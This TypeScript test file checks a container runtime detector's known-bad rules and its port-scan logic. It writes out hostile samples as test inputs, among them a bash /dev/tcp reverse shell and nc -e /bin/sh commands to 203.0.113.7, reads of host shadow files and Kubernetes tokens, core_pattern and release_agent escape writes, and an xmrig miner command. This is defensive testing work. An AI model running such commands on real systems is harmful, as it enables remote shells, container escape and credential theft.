import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deviationAudit, KnownBad, RULES, type RuleContext } from '../../src/detect/index.ts';
import type { RuntimeEvent } from '../../src/model/index.ts';

const base = { time: '2026-01-01T00:00:00Z', source: 'tenet' as const, container: { id: 'c1', name: 'web' } };
const exec = (path: string, argv: string[], parent?: string): RuntimeEvent => ({ kind: 'exec', ...base, process: { pid: 9, path, argv, ...(parent !== undefined && { parent: { name: parent } }) } });
let n = 0;
const knownBad = new KnownBad();
const fired = (event: RuntimeEvent, c: { ancestors?: string[]; knownProcess?: boolean } = {}) => {
  const context: RuleContext = { ancestors: c.ancestors ?? [], knownProcess: () => c.knownProcess ?? false };
  return knownBad.audits(event, context, () => ({ id: String(n++) })).map((a) => a.rule);
};

test('each known-bad rule fires on what it looks for, and not on the ordinary', () => {
  assert.deepEqual(fired(exec('/bin/sh', ['sh', '-c', 'id'], 'nginx'), { ancestors: ['nginx'] }), ['shell-from-server']);
  assert.deepEqual(fired(exec('/bin/sh', ['sh', '-c', 'id']), { ancestors: ['containerd-shim'] }), [], 'docker exec: the model rule says it');
  assert.deepEqual(fired(exec('/bin/sh', ['sh', '/entrypoint.sh']), { ancestors: ['node'], knownProcess: true }), [], 'a shell the model allows');

  assert.deepEqual(fired(exec('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'], 'bash'), { ancestors: ['bash'] }), ['reverse-shell']);
  assert.deepEqual(fired(exec('/usr/bin/nc', ['nc', '203.0.113.7', '4444', '-e', '/bin/sh'])), ['reverse-shell']);
  assert.deepEqual(fired({ kind: 'connect', ...base, process: { pid: 9, path: '/usr/bin/bash' }, network: { protocol: 'tcp', remoteAddress: '203.0.113.7', remotePort: 4444 } }), ['reverse-shell']);
  assert.deepEqual(fired({ kind: 'connect', ...base, process: { pid: 9, path: '/usr/bin/bash' }, network: { protocol: 'tcp', remoteAddress: '10.0.0.2', remotePort: 80 } }, { knownProcess: true }), [],
    'a shell that is the container\'s own program: its model judges its peers');
  assert.deepEqual(fired(exec('/usr/bin/nc', ['nc', '-z', 'db', '5432'])), [], 'nc without a program on the socket');

  assert.deepEqual(fired(exec('/usr/bin/apt-get', ['apt-get', 'install', '-y', 'nmap'])), ['package-manager-or-compiler']);
  assert.deepEqual(fired(exec('/usr/bin/gcc', ['gcc', 'x.c'])), ['package-manager-or-compiler']);
  assert.deepEqual(fired(exec('/usr/local/bin/npm', ['npm', 'start'])), [], 'npm running the app');
  assert.deepEqual(fired(exec('/usr/local/bin/npm', ['npm', 'install', 'evil'])), ['package-manager-or-compiler']);

  assert.deepEqual(fired({ kind: 'write', ...base, process: { pid: 9 }, file: { path: '/proc/sys/kernel/core_pattern' } }), ['container-escape']);
  assert.deepEqual(fired({ kind: 'write', ...base, process: { pid: 9 }, file: { path: '/sys/fs/cgroup/memory/release_agent' } }), ['container-escape']);
  assert.deepEqual(fired({ kind: 'syscall', ...base, process: { pid: 9 }, syscall: 'mount' }), ['container-escape']);
  assert.deepEqual(fired({ kind: 'write', ...base, process: { pid: 9 }, file: { path: '/tmp/x' } }), []);
  assert.deepEqual(fired({ kind: 'write', ...base, process: { pid: 9 }, file: { path: '/dev/mem' } }), ['container-escape']);
  assert.deepEqual(fired({ kind: 'write', ...base, process: { pid: 9 }, file: { path: '/host/kernel/core_pattern' } }), ['container-escape'], 'wherever the host\'s core_pattern is mounted');
  assert.deepEqual(fired({ kind: 'write', ...base, process: { pid: 9 }, file: { path: '/data/proc/sys/x' } }), [], 'a /proc/sys below another folder is not the host\'s');
  assert.deepEqual(fired({ kind: 'open', ...base, process: { pid: 9 }, file: { path: '/proc/1/root/etc/shadow' } }), ['container-escape'], 'the host\'s files through PID 1\'s root');
  assert.deepEqual(fired({ kind: 'open', ...base, process: { pid: 9 }, file: { path: '/proc/1/rootfs' } }), []);

  assert.deepEqual(fired({ kind: 'open', ...base, process: { pid: 9, path: '/usr/bin/curl' }, file: { path: '/var/run/secrets/kubernetes.io/serviceaccount/token' } }), ['runtime-socket-or-token']);
  assert.deepEqual(fired({ kind: 'open', ...base, process: { pid: 9, path: '/app/server' }, file: { path: '/var/run/secrets/kubernetes.io/serviceaccount/token' } }, { knownProcess: true }), []);
  assert.deepEqual(fired({ kind: 'open', ...base, process: { pid: 9, path: '/usr/bin/curl' }, file: { path: '/run/containerd/containerd.sock' } }), ['runtime-socket-or-token']);
  assert.deepEqual(fired({ kind: 'open', ...base, process: { pid: 9, path: '/usr/bin/curl' }, file: { path: '/srv/run/docker.sock' } }), []);

  assert.deepEqual(fired(exec('/tmp/xmrig', ['/tmp/xmrig', '-o', 'stratum+tcp://pool.example:3333'])), ['crypto-miner']);
  assert.deepEqual(fired(exec('/opt/XMRig', ['XMRig', '--config', 'c.json'])), ['crypto-miner'], 'a miner by name, in any case');
  assert.deepEqual(fired(exec('/opt/SRBMiner-MULTI', ['SRBMiner-MULTI'])), ['crypto-miner']);
  assert.deepEqual(fired(exec('/usr/bin/miner-report', ['miner-report'])), []);
  assert.deepEqual(fired({ kind: 'dns', ...base, process: { pid: 9 }, dns: { names: ['xmr.pool.minexmr.com'] } }), ['crypto-miner']);
  assert.deepEqual(fired({ kind: 'connect', ...base, process: { pid: 9, path: '/tmp/a' }, network: { protocol: 'tcp', remoteAddress: '198.51.100.9', remotePort: 14444 } }), ['crypto-miner']);
  assert.deepEqual(fired({ kind: 'dns', ...base, process: { pid: 9 }, dns: { names: ['api.github.com'] } }), []);
  assert.deepEqual(fired({ kind: 'connect', ...base, process: { pid: 9, path: '/tmp/busybox', argv: ['/tmp/busybox', 'nc', 'p', '3333'] }, network: { protocol: 'tcp', remoteAddress: '198.51.100.9', remotePort: 3333 } }), ['crypto-miner'],
    'busybox running nc is nc, not a shell');
  assert.deepEqual(fired(exec('/bin/busybox', ['nc', '-l', '-p', '4445', '-e', '/bin/sh'])), ['reverse-shell'], 'busybox re-run as its applet (argv[0] nc, through /proc/self/exe) is that applet');
  assert.deepEqual(fired(exec('/bin/busybox', ['sh', '-c', 'id'], 'node'), { ancestors: ['node'] }), ['shell-from-server'], 'busybox\'s sh is a shell');
  assert.deepEqual(fired(exec('/bin/busybox', ['timeout', '5', 'wget', 'http://web/'])), [], 'timeout running wget: no rule');
});

test('every rule has an id, an ATT&CK technique, the event kinds it reads and a description', () => {
  const ids = RULES.map((r) => r.id);
  assert.equal(new Set(ids).size, ids.length);
  for (const rule of RULES) {
    assert.match(rule.technique.id, /^T\d{4}(\.\d{3})?$/, rule.id);
    assert.ok(rule.kinds.length > 0 && rule.description.length > 40, rule.id);
    assert.equal(rule.detect === undefined, rule.needsModel || rule.id === 'drift' || rule.id.startsWith('threat-intel'), rule.id);
    if (rule.detect !== undefined) assert.deepEqual(Object.keys(rule.detect).sort(), [...rule.kinds].sort(), `${rule.id} checks exactly the kinds it reads`);
  }
});

test('a deviation names its rule, the container, the process and the entry its model lacked; a parent its model never saw is its own rule', () => {
  const event: RuntimeEvent = { kind: 'exec', time: '2026-01-01T00:00:00Z', source: 'tenet', container: { id: 'c1', name: 'web', imageId: 'sha256:aaa' },
    process: { pid: 7, path: '/usr/sbin/nginx', parent: { name: 'bash' } } };
  const parent = deviationAudit(event, 'processes', '/usr/sbin/nginx', { id: '1', model: 'sha256:aaa' }, 'bash');
  assert.equal(parent.rule, 'unexpected-parent');
  assert.deepEqual(parent.lacked, { dimension: 'processes', entry: '/usr/sbin/nginx', parent: 'bash' });
  assert.match(parent.message, /web ran \/usr\/sbin\/nginx, started by bash/);
  const program = deviationAudit(event, 'processes', '/usr/sbin/nginx', { id: '2' });
  assert.equal(program.rule, 'unexpected-process');
  assert.deepEqual([program.container.name, program.container.imageId, program.lacked], ['web', 'sha256:aaa', { dimension: 'processes', entry: '/usr/sbin/nginx' }]);
  // the message says the path as it was written; the entry lacked is the model's form of it
  const write: RuntimeEvent = { ...event, kind: 'write', file: { path: '/tmp/upload-7f3a9c.tmp', operation: 'open for writing' } };
  const wrote = deviationAudit(write, 'writable', '/tmp/*', { id: '3' });
  assert.match(wrote.message, /: \/tmp\/upload-7f3a9c\.tmp \(by \/usr\/sbin\/nginx\)$/);
  assert.deepEqual(wrote.lacked, { dimension: 'writable', entry: '/tmp/*' });
});

test('a port scan: ten ports of one peer within the window, said once; fewer ports, other peers or a slow walk are none', () => {
  const scanner = new KnownBad();
  const at = (ms: number, address: string, port: number): RuntimeEvent => ({
    kind: 'connect', ...base, time: new Date(Date.parse(base.time) + ms).toISOString(), process: { pid: 30 + port, path: '/bin/busybox', argv: ['busybox', 'nc', address, String(port)] },
    network: { protocol: 'tcp', remoteAddress: address, remotePort: port },
  });
  const rules = (event: RuntimeEvent) => scanner.audits(event, { ancestors: [], knownProcess: () => true }, () => ({ id: String(n++) }));
  const fired = Array.from({ length: 30 }, (_, i) => rules(at(i * 100, '10.0.0.5', 1 + i))).flat();
  assert.deepEqual(fired.map((a) => [a.rule, a.event.network?.remotePort]), [['port-scan', 10]]);
  assert.match(fired[0]!.message, /10 ports of 10\.0\.0\.5 in 1 s/);
  assert.deepEqual(Array.from({ length: 9 }, (_, i) => rules(at(i * 100, '10.0.0.6', 1 + i))).flat(), []);
  assert.deepEqual(Array.from({ length: 12 }, (_, i) => rules(at(i * 100, `10.0.1.${i}`, 80))).flat(), [], 'one port of many peers');
  assert.deepEqual(Array.from({ length: 12 }, (_, i) => rules(at(i * 2000, '10.0.0.7', 1 + i))).flat(), [], 'one port every 2 s');
});
